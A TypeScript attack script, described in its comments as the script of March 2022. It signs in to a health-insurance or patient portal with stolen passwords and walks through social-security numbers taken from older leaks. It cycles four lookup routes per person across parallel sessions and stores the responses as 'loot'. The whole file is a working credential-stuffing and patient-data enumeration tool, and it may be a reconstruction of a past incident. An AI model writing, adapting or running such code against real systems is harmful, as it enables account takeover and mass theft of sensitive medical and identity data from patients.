// The script of March 2022: signs in with each stolen password and asks for one insured person after the other.
// It meets a gateway with the same patience as a bare portal, and follows every door a password opens.

import { createLine, type Line, type Reply } from '../line.ts';
import type { Loot } from '../loot.ts';
import type { StolenAccount } from './stolen-accounts.ts';

/** One way of asking for a person. */
export type LookUp = (line: Line, number: string) => Promise<Reply>;

/** What the script is told to do. */
export interface Orders {
  readonly origin: URL;
  readonly accounts: readonly StolenAccount[];
  /** The numbers it has from older leaks, asked for in turn, shared out over the accounts. */
  readonly numbers: (place: number) => string;
  readonly limit: number;
  readonly lookUps: readonly LookUp[];
  /** How it gets in: true when the portal takes it for the account. */
  readonly enter: (line: Line, account: StolenAccount) => Promise<boolean>;
  /** Told after each look-up. */
  readonly progress: (done: number) => void;
}

/** What the script saw, by the status of the answers. */
export interface Outcome {
  readonly signedIn: number;
  readonly statuses: ReadonlyMap<number, number>;
}

const asProgram = { accept: 'application/json' } as const;

/** The look-ups of a program, every route that shows one person. */
export const lookUps: readonly LookUp[] = [
  (line, number) => line.send(`/api/patients/${number}`, { headers: asProgram }),
  (line, number) => line.send(`/patients/${number}/droits`, { headers: asProgram }),
  (line, number) =>
    line.send('/api/recherche', {
      method: 'POST',
      headers: { ...asProgram, 'content-type': 'application/json' },
      body: JSON.stringify({ nir: number }),
    }),
  (line, number) => line.send(`/patients/${number}`, { headers: { accept: 'text/html' } }),
];

/** Runs the script with one connection for each account, all at once. */
export async function runScript(orders: Orders, loot: Loot): Promise<Outcome> {
  const statuses = new Map<number, number>();
  const queue = { next: 0, done: 0 };
  const workers = orders.accounts.map((account) => work({ orders, loot, account, statuses, queue }));
  const signedIn = (await Promise.all(workers)).filter(Boolean).length;
  return { signedIn, statuses };
}

interface Work {
  readonly orders: Orders;
  readonly loot: Loot;
  readonly account: StolenAccount;
  readonly statuses: Map<number, number>;
  readonly queue: { next: number; done: number };
}

async function work({ orders, loot, account, statuses, queue }: Work): Promise<boolean> {
  const line = createLine(orders.origin, { loot });
  try {
    if (!(await orders.enter(line, account))) return false;
    while (queue.next < orders.limit) {
      const place = queue.next;
      queue.next += 1;
      const lookUp = orders.lookUps[place % orders.lookUps.length];
      const status = (await lookUp?.(line, orders.numbers(place)))?.status ?? 0;
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
      queue.done += 1;
      orders.progress(queue.done);
    }
    return true;
  } finally {
    line.close();
  }
}

/** Signs in with a password; true when the portal opened a session. */
export async function signIn(line: Line, { login, password }: StolenAccount): Promise<boolean> {
  await line.post('/login', { login, password, next: '/' });
  const me = await line.send('/api/me', { headers: asProgram });
  return me.status === 200;
}
